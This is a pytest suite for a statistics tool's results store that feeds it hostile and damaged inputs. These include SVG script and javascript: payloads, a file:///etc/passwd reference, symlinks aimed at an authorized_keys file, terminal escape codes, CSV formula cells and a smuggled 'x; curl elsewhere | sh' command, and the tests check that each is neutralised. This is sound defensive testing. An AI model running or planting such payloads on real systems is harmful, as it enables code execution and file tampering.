"""Results folders of strangers, and damaged ones: nothing is run, written elsewhere, or lost without a word."""

import json
import shutil
import sqlite3
from dataclasses import replace
from pathlib import Path

import hostile
import numpy as np
import pyarrow.parquet as pq
import pytest
from hostile import CELLS, STUDY, change_json, change_meta, change_row, meta, run_sql

from comparisons import catalogue, cli
from comparisons.report import figures, files, pictures, rates, summary
from comparisons.running import described, description, export
from comparisons.running import page as report
from comparisons.running.store import FILE, Damaged, Store, StoreError

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"{}>{}</svg>'


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    """A whole results folder, whose kept text would leave a mark if it were run."""
    return hostile.folder(tmp_path_factory.mktemp("whole"))


@pytest.fixture
def file(whole, tmp_path):
    """A copy of it, to spoil."""
    (tmp_path / "fake").mkdir()
    return Path(shutil.copy(whole, tmp_path / "fake" / FILE))


def call(monkeypatch, *arguments):
    """Exit status of the command."""
    monkeypatch.setattr("sys.argv", ["bayes-moe", "study", *map(str, arguments)])
    monkeypatch.setattr(cli, "_leave", lambda code: (_ for _ in ()).throw(SystemExit(code)))
    with pytest.raises(SystemExit) as ended:
        cli.main()
    return ended.value.code


def read(file):
    """How many rows are read as data, and what is said of the others."""
    with Store(file, reading=True) as store:
        return len(store.rows()), store.left_out()


# Nothing is run ----------------------------------------------------------------------------------------------------


def test_reading_runs_no_text_that_is_kept_also_not_under_a_name_of_ours(file, monkeypatch, capsys, tmp_path):
    for name in ("fake.py", "quickstart"):
        recipe = {"name": name, "quick": False, "source": "raise SystemExit('run')"}
        change_meta(file, "recipe", json.dumps(recipe))
        for command in (["status"], ["status", "fake"], ["export"], ["compare", "fake", "fake"]):
            assert call(monkeypatch, *command, "--results", tmp_path) == 0
        assert "only, quick" in capsys.readouterr().out


def test_a_report_of_data_is_that_of_the_study_itself(file, monkeypatch, tmp_path):
    monkeypatch.setattr(rates, "RESAMPLES", 50)
    monkeypatch.setattr(report, "_embed", lambda figure: "")  # names in an SVG are random
    save = figures.save
    monkeypatch.setattr(figures, "save", lambda figure, *paths: save(figure, paths[0]))
    live = replace(STUDY, findings=lambda rows: ("found: nothing", hostile.drawing()))
    with Store(file, live, reading=True) as store:
        before = report.write(live, store, tmp_path / "live")
    with Store(file, reading=True) as store:
        after = report.write(store.study, store, tmp_path / "data")
    assert [path.name for path in after] == [path.name for path in before]
    for one, other in zip(before, after, strict=True):
        if one.suffix in (".csv", ".png"):
            assert one.read_bytes() == other.read_bytes()
    pages = [
        [part for part in path.read_text().splitlines() if "data:image" not in part] for path in (before[0], after[0])
    ]
    assert pages[0] == pages[1]
    assert "found: nothing" in "\n".join(pages[1])


@pytest.mark.parametrize(("name", "n"), [("gaussian-gated-m2", 500), ("vc-constant", 500)])
def test_a_study_of_ours_as_data_has_the_same_cells(name, n):
    study = catalogue.STUDIES[name](True)
    regime = study.regimes[0]
    at = [{"regime": regime.name, "n": n, **description.describe_at(regime, n)}]
    about, at = json.loads(json.dumps([description.describe(study), at]))
    data = described.read(about, at)
    cell = next(cell for cell in study.cells() if cell.regime == regime.name and cell.n == n)
    assert data.identity(cell) == json.loads(json.dumps(study.identity(cell)))
    assert data.regimes[0].vanishing(n) == regime.vanishing(n)
    assert data.regimes[0].main == regime.main
    assert [data.plans(one) for one in study.cells()] == [True] * len(list(study.cells()))


@pytest.mark.slow
def test_every_study_of_ours_can_be_described():
    for make in catalogue.STUDIES.values():
        study = make(False)
        data = described.read(json.loads(json.dumps(description.describe(study))), [])
        assert [(r.name, r.title, r.exponents) for r in data.regimes] == [
            (r.name, r.title, r.exponents) for r in study.regimes
        ]


def test_findings_of_fewer_fits_say_so(file):
    with Store(file, reading=True) as store:
        text, _ = store.study.findings(store.rows()[1:])
    assert text.startswith(f"(of {len(CELLS)} fits; there are {len(CELLS) - 1} now")


@pytest.mark.parametrize(
    ("attributes", "inside"),
    [
        (' onload="x()"', ""),
        ("", "<script>x()</script>"),
        ("", '<g onclick="x()"><a href="javascript:x()"><text>t</text></a></g>'),
        ("", '<use x:href="http://elsewhere/x.svg#a"/><image x:href="file:///etc/passwd"/>'),
        ("", "<style>@import 'http://elsewhere/x.css'; * {fill: url(http://elsewhere)}</style>"),
        ("", '<foreignObject><body onload="x()"/></foreignObject>'),
        ("", '<rect style="fill: url(http://elsewhere)"/>'),
        ("", "<g>" * 5000 + "<script/>" + "</g>" * 5000),
    ],
)
def test_of_a_kept_picture_only_shapes_are_left(attributes, inside):
    out = pictures.clean(SVG.format(attributes, inside).encode())
    assert not any(word in out for word in (b"elsewhere", b"x()", b"script", b"passwd", b"foreignObject"))


def test_a_picture_of_ours_keeps_its_shapes():
    drawn = pictures.drawn(hostile.drawing())
    assert pictures.read(json.loads(json.dumps(pictures.written(drawn)))) == drawn
    assert drawn.svg.count(b"<path") > 5


# Nothing is written elsewhere --------------------------------------------------------------------------------------


def test_planted_links_are_replaced_and_never_followed(file, monkeypatch, tmp_path):
    victim = tmp_path / "authorized_keys"
    victim.write_text("mine")
    monkeypatch.setattr(rates, "RESAMPLES", 50)
    change_meta(file, "command x", json.dumps({"words": ["ssh-ed25519 AAAA"]}))
    stems = [f"{name}.{kind}" for name in ("findings", "rates", "efficiency") for kind in ("png", "svg")]
    names = [*stems, "report.html", "slopes.csv", "efficiency.csv", "fits.csv", "fits.parquet"]
    for name in (*names, *(f"{name}.part" for name in names)):
        (file.parent / name).symlink_to(victim)
    for command in ("report", "export"):
        assert call(monkeypatch, command, "fake", "--results", tmp_path) == 0
    assert victim.read_text() == "mine"
    for name in names:
        assert (file.parent / name).is_file()
        assert not (file.parent / name).is_symlink()


@pytest.mark.parametrize("side", ["-wal", "-shm", "-journal", ""])
def test_a_link_in_the_place_of_results_is_refused(file, side, tmp_path):
    victim = tmp_path / "victim"
    part = file.with_name(FILE + side)
    shutil.copy(file, victim)
    part.unlink(missing_ok=True)
    part.symlink_to(victim)
    before = victim.read_bytes()
    for reading in (True, False):
        with pytest.raises(ValueError, match="is a link"):
            Store(file, STUDY, reading=reading)
    assert victim.read_bytes() == before


def test_a_folder_that_is_a_link_is_not_written_in(file, monkeypatch, capsys, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    file.parent.rename(elsewhere)
    (tmp_path / "fake").symlink_to(elsewhere)
    before = sorted(elsewhere.iterdir())
    for command in ("report", "export"):
        assert call(monkeypatch, command, "fake", "--results", tmp_path) == 2
        assert "is a link" in capsys.readouterr().err
    with pytest.raises(ValueError, match="is a link"):
        Store(tmp_path / "fake" / FILE, STUDY)
    assert sorted(elsewhere.iterdir()) == before


@pytest.mark.parametrize("name", ["../../up", "/up", "..", ".", "", "a/b", "a\\b", "-x", "a\nb", "c:x", "x" * 101, 3])
def test_a_study_s_name_is_that_of_a_folder(name):
    with pytest.raises(ValueError, match="name must be that of a folder"):
        replace(STUDY, name=name)


def test_a_figure_is_written_whole_or_not_at_all(tmp_path):
    class Broken:
        def savefig(self, path, **_):
            path.write_bytes(b"half")
            raise MemoryError

    path = tmp_path / "rates.png"
    path.write_bytes(b"whole")
    with pytest.raises(MemoryError):
        figures.save(Broken(), path)
    assert path.read_bytes() == b"whole"
    assert list(tmp_path.iterdir()) == [path]


def test_what_is_written_has_the_rights_of_any_new_file(tmp_path):
    (tmp_path / "plain").touch()
    with files.whole(tmp_path / "new") as part:
        part.write_text("x")
    assert (tmp_path / "new").stat().st_mode == (tmp_path / "plain").stat().st_mode


# Rows are looked at ------------------------------------------------------------------------------------------------


def payload(**values):
    return lambda file: change_json(file, "payload", lambda row: row.update(values))


def identity(**values):
    return lambda file: change_json(file, "identity", lambda row: row.update(values))


def provenance(**values):
    return lambda file: change_json(file, "provenance", lambda row: row.update(values))


def lacking(column, name):
    return lambda file: change_json(file, column, lambda row: row.pop(name))


ROWS = {
    "n is text": (identity(n="50"), "n must be a whole number"),
    "n is negative": (identity(n=-50), "n must be a whole number"),
    "n is huge": (identity(n=10**40), "n must be a whole number"),
    "n is true": (identity(n=True), "n must be a whole number"),
    "no n": (lacking("identity", "n"), "n must be a whole number"),
    "no regime": (lacking("identity", "regime"), "regime must be a text"),
    "a regime with controls": (identity(regime="\x1b[2J"), "regime holds characters that can't be shown"),
    "an estimator that is a list": (identity(estimator=[]), "estimator must be a text"),
    "a list for an identity": (lambda file: change_row(file, identity="[]"), "its identity must be a JSON object"),
    "an endless nest": (lambda file: change_row(file, payload="[" * 10**5), "its result is no JSON"),
    "a deep nest": (payload(x=json.loads("[" * 99 + "]" * 99)), "its result is nested too deep"),
    "no JSON": (lambda file: change_row(file, payload="{"), "its result is no JSON"),
    "a huge text": (payload(x="x" * 2**24), "its result must be a text of at most"),
    "half a character": (payload(error="\ud800"), "half a character"),
    "NaN": (payload(error_tau=float("nan")), "error_tau must be a finite number"),
    "infinity": (payload(loss_beta=float("inf")), "loss_beta must be a finite number"),
    "a number as text": (payload(error_eta="0.5"), "error_eta must be a number"),
    "a number beyond floats": (payload(radius_eta=10**400), "radius_eta must be a finite number"),
    "a number beyond squares": (payload(error_tau=1e200), "error_tau must be a finite number from -1e+150"),
    "no error": (lacking("payload", "error_tau"), "error_tau must be a number"),
    "no spread": (lacking("payload", "spread_eta"), "spread_eta must be a number"),
    "no status": (lacking("payload", "status"), "status must be a text"),
    "two statuses": (payload(status="error"), "its status must be the same word"),
    "coverage of two": (payload(cover_tau=2.0, width_tau=1.0), "cover_tau must be a share"),
    "coverage without width": (payload(cover_tau=1.0), "it needs both of cover_tau and width_tau"),
    "another's identity": (payload(n=70), "'n' is the name of a column of its identity"),
    "time that ran back": (provenance(seconds=-1.0), "seconds must be a finite number from 0"),
    "provenance that is a list": (provenance(commit=[1]), "commit in its provenance must be a number or a text"),
    "a key that is none": (lambda file: change_row(file, id="x"), "its key must be 64 hexadecimal digits"),
}


@pytest.mark.parametrize("kind", ROWS)
def test_a_row_that_is_no_fit_s_is_counted_and_left_out(kind, file):
    plant, says = ROWS[kind]
    plant(file)
    count, left_out = read(file)
    assert count == len(CELLS) - 1
    assert left_out.startswith("1 rows in ")
    assert says in left_out


def test_rows_that_are_no_fits_run_again(file):
    ROWS["n is text"][0](file)
    with Store(file, STUDY) as store:
        assert len(store.rows()) == len(CELLS) - 1
        assert "holds a row that is no fit's (n must be" in store.notice


@pytest.mark.parametrize("value", [b"ok", 5, None])
def test_a_column_of_another_type_is_damage_and_ends_no_salvage(file, value):
    try:
        change_row(file, status=value)
    except sqlite3.IntegrityError:  # the table itself refuses nothing at all
        return
    with pytest.raises(Damaged, match="does not match its checksum"):
        Store(file, reading=True)
    with Store(file, STUDY) as store:
        assert len(store.rows()) == len(CELLS) - 1


def test_what_a_fit_says_of_itself_hides_no_other(file):
    provenance(status="error", n=7, id="x")(file)
    with Store(file, reading=True) as store:
        record = store.records()[0]
    assert (record["status"], record["n"], len(record["id"])) == ("ok", 50, 64)


def test_a_fit_that_can_t_be_read_again_is_kept_as_an_error(tmp_path):
    with Store(tmp_path / FILE, STUDY) as store:
        store.write(CELLS[0], hostile.measured(CELLS[0]) | {"n": 7})
        (row,) = store.rows()
    assert row["status"] == "error"
    assert "'n' is the name of a column of its identity" in row["error"]


ENDLESS = "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT"
CELL_COLUMNS = "x id, x identity, x status, x payload, x provenance, x checksum FROM r"
SCHEMAS = [
    ("DROP TABLE cells", f"CREATE VIEW cells AS {ENDLESS} {CELL_COLUMNS}"),
    ("DROP TABLE meta", f"CREATE VIEW meta AS {ENDLESS} x key, x value, x checksum FROM r"),
    ("CREATE TRIGGER t AFTER INSERT ON cells BEGIN DELETE FROM cells; END",),
    ("CREATE TABLE theirs (x)",),
    ("CREATE INDEX i ON cells (payload)",),
    ("ALTER TABLE cells ADD COLUMN extra",),
]


@pytest.mark.parametrize("statements", SCHEMAS)
def test_a_file_that_holds_more_than_our_tables_is_not_read(file, statements):
    run_sql(file, *statements)
    for reading in (True, False):
        with pytest.raises(ValueError, match="which bayes-moe does not make so"):
            Store(file, STUDY, reading=reading)


def test_an_older_schema_is_named(file):
    run_sql(file, "PRAGMA user_version = 2")
    with pytest.raises(ValueError, match="has schema 2, that of an earlier version; this version reads 3"):
        Store(file, reading=True)


def about(key, change):
    def plant(file):
        value = json.loads(meta(file, key))
        change(value)
        change_meta(file, key, json.dumps(value))

    return plant


DESCRIPTIONS = {
    "a list": lambda file: change_meta(file, "description", "[]"),
    "nests": lambda file: change_meta(file, "description", "[" * 10**5),
    "a seed of text": about("description", lambda d: d.update(seed="x")),
    "endless replicates": about("description", lambda d: d.update(replicates={"quick": [[50, 10**12]]})),
    "sizes of nobody": about("description", lambda d: d.update(sizes={"ghost": [50]})),
    "two regimes of a name": about("description", lambda d: d.update(regimes=d["regimes"] * 2)),
    "an exponent of text": about("description", lambda d: d["regimes"][0].update(exponents={"tau": "x"})),
    "no fields": about("description", lambda d: d["regimes"][0].update(fields={})),
    "huge fields": about("description", lambda d: d["regimes"][0].update(fields={"tau": [10**6] * 8})),
    "a bound of zero": about("size 50 only", lambda d: d["bounds"]["median"].update(tau=0)),
    "a bound that is none": about("size 50 only", lambda d: d["bounds"]["rmse"].update(tau=float("nan"))),
    "no scales": about("size 50 only", lambda d: d.update(scales={})),
    "findings of a number": about("findings", lambda d: d.update(text=3)),
    "a figure of nothing": about("findings", lambda d: d["figure"].update(png="AAAA")),
    "a figure of entities": about("findings", lambda d: d["figure"].update(svg=SVG.format("", "&a;"))),
}


@pytest.mark.parametrize("kind", DESCRIPTIONS)
def test_a_description_that_is_none_is_named(kind, file):
    DESCRIPTIONS[kind](file)
    with pytest.raises(ValueError, match="its description can't be read"):
        Store(file, reading=True)


def test_a_title_moves_no_cursor(file, monkeypatch, capsys, tmp_path):
    about("description", lambda d: d.update(title="\x1b]0;x\x07\x1b[2Jtitle"))(file)
    assert call(monkeypatch, "status", "--results", tmp_path) == 0
    out = capsys.readouterr().out
    assert "title" in out
    assert "\x1b" not in out


def test_a_plan_without_end_is_counted_and_not_walked(file):
    about("description", lambda d: d.update(replicates={"quick": 10**9}))(file)
    with Store(file, reading=True) as store:
        assert "3000000000" in summary.progress(store.rows(), store.study)


@pytest.mark.parametrize("words", ["no JSON", '{"words": [1]}', '{"words": ["\\u001b[2J"]}', '{"words": 3}'])
def test_a_command_that_is_none_is_named(file, words):
    change_meta(file, "command x", words)
    with Store(file, reading=True) as store, pytest.raises(ValueError, match="a command can't be read"):
        store.commands()


def test_a_command_is_words_and_no_line_for_a_shell(file):
    change_meta(file, "command x", json.dumps({"words": ["x; curl elsewhere | sh"]}))
    with Store(file, reading=True) as store:
        assert store.commands()[-1] == "bayes-moe study run 'x; curl elsewhere | sh'"


def test_a_cell_of_a_table_is_no_formula_and_numbers_stay_numbers(tmp_path):
    texts = ["=1+1", "+1", "-1+x", "@SUM(1)", "\t=1", "\r=1", "plain", ["=a", "b"], {"a": [1]}]
    records = [{"text": text, "number": -0.5 * i, "=head": -1} for i, text in enumerate(texts)]
    lines = export.write(records, tmp_path / "fits.csv").read_text(newline="").split("\n")
    assert lines[0] == '"text","number","\'=head"'
    assert [line.split('"')[1][:2] for line in lines[1:5]] == ["'=", "'+", "'-", "'@"]
    assert lines[2].endswith(",-0.5,-1")
    assert pq.read_table(export.write(records, tmp_path / "fits.parquet"))["text"][0].as_py() == "=1+1"


# Damage is never silent --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module", params=[1, 0], ids=["as kept", "in the log alone"])
def killed(request, tmp_path_factory):
    """What a driver leaves that was killed: as we keep fits, and with all of them in the log, as SQLite would."""
    folder = tmp_path_factory.mktemp("killed")
    with Store(folder / "live" / FILE, STUDY) as store:
        store._connection.execute(f"PRAGMA wal_autocheckpoint = {request.param}")
        for cell in CELLS:
            store.write(cell, hostile.measured(cell), {"seconds": 0.5})
        shutil.copytree(folder / "live", folder / "left", ignore=shutil.ignore_patterns("*-shm"))
    return folder / "left" / FILE


@pytest.mark.parametrize("seed", range(20))
def test_a_flipped_bit_in_the_log_loses_nothing_without_a_word(killed, tmp_path, seed):
    shutil.copytree(killed.parent, tmp_path / "copy")
    file = tmp_path / "copy" / FILE
    log = file.with_name(FILE + "-wal")
    rng = np.random.default_rng(seed)
    content = bytearray(log.read_bytes())
    content[rng.integers(len(content))] ^= 1 << int(rng.integers(8))
    log.write_bytes(content)
    try:
        with Store(file, STUDY, reading=True) as store:
            assert len(store.rows()) == len(CELLS)
    except Damaged as error:
        assert "does not match" in str(error)
    with Store(file, STUDY) as store:
        kept = {row["replicate"] * 1000 + row["n"]: row["error_tau"] for row in store.rows()}
        assert len(kept) == len(CELLS) or (len(kept) == len(CELLS) - 1 and "could be read" in store.notice)
        assert all(kept[c.replicate * 1000 + c.n] == hostile.measured(c)["error_tau"] for c in CELLS if c in kept)


def test_a_log_that_is_whole_is_not_called_damaged(killed):
    with Store(killed, STUDY, reading=True) as store:
        assert len(store.rows()) == len(CELLS)


def test_every_fit_is_in_the_file_itself(tmp_path):
    with Store(tmp_path / FILE, STUDY) as store:
        for count, cell in enumerate(CELLS[:4], start=1):
            store.write(cell, {"status": "ok"})
            alone = tmp_path / str(count) / FILE
            alone.parent.mkdir()
            shutil.copy(tmp_path / FILE, alone)
            with Store(alone, STUDY) as copy:
                assert len(copy.rows()) == count


def test_a_log_without_its_file_is_kept_and_read(killed, tmp_path):
    log = killed.with_name(FILE + "-wal")
    shutil.copy(log, tmp_path / log.name)
    with Store(tmp_path / FILE, STUDY) as store:
        assert "is missing or empty, and its log is there" in store.notice
        if log.stat().st_size > 100_000:  # all fits are in it
            assert len(store.rows()) == len(CELLS)
    assert (tmp_path / f"{FILE}.damaged-1-wal").read_bytes() == log.read_bytes()


@pytest.mark.parametrize("key", ["study", "recipe", "description", "size 50 only", "findings"])
def test_what_is_kept_beside_the_fits_has_a_checksum(file, key):
    value = meta(file, key)
    changed = chr(ord(value[len(value) // 2]) ^ 1)
    half = len(value) // 2
    run_sql(
        file,
        f"UPDATE meta SET value = substr(value, 1, {half}) || '{changed}' || substr(value, {half + 2}) "
        f"WHERE key = '{key}'",
    )
    with pytest.raises(Damaged, match="does not match its checksum"):
        Store(file, reading=True)


def test_salvage_takes_no_fits_of_another_text(file):
    content = bytearray(file.read_bytes())
    content[content.index(b'"error_tau": ') + len('"error_tau": ')] ^= 1
    file.write_bytes(content)
    from comparisons.running.recipe import Recipe  # noqa: PLC0415

    with pytest.raises(ValueError, match="another text of it"):
        Store(file, replace(STUDY, recipe=Recipe("fake.py", False, "another")))
    assert file.read_bytes() == content
    with pytest.raises(ValueError, match="holds the study 'fake'"):
        Store(file, replace(STUDY, name="other"))
    with pytest.raises(StoreError):
        Store(file, reading=True)


@pytest.mark.parametrize(
    ("columns", "says"),
    [
        ({"error_occupancy_0": 1.0}, "it has 1 columns error_occupancy_*, for 3 true atoms"),
        ({f"error_occupancy_{j}": 1.0 for j in range(3)}, "error_pi_0 must be a number"),
        ({f"error_occupancy_{j}": -4.0 for j in range(3)}, "error_occupancy_0 must be a finite number from 0"),
        ({f"error_occupancy_{j}": 1e300 for j in range(3)}, "error_occupancy_0 must be a finite number from 0"),
        ({f"error_occupancy_{j + 1}": 1.0 for j in range(3)}, "error_occupancy_0 must be a number"),
    ],
)
def test_cells_of_atoms_that_are_none_are_left_out(file, columns, says):
    for n in (50, 60, 70):
        about(f"size {n} only", lambda d: d.update(vanishing=[True, False, False]))(file)
    payload(**columns)(file)
    count, left_out = read(file)
    assert count == len(CELLS) - 1
    assert says in left_out


def test_a_report_of_absurd_numbers_warns_of_nothing(file, monkeypatch, tmp_path):
    monkeypatch.setattr(rates, "RESAMPLES", 50)
    monkeypatch.setattr(report, "_embed", lambda figure: "")
    monkeypatch.setattr(figures, "save", lambda figure, *paths: None)
    for values in ({"error_tau": 1e150, "error_beta": 0.0}, {"error_eta": -1.0}):
        payload(**values)(file)
        with Store(file, reading=True) as store:
            assert report.write(store.study, store)[0].stat().st_size > 1000
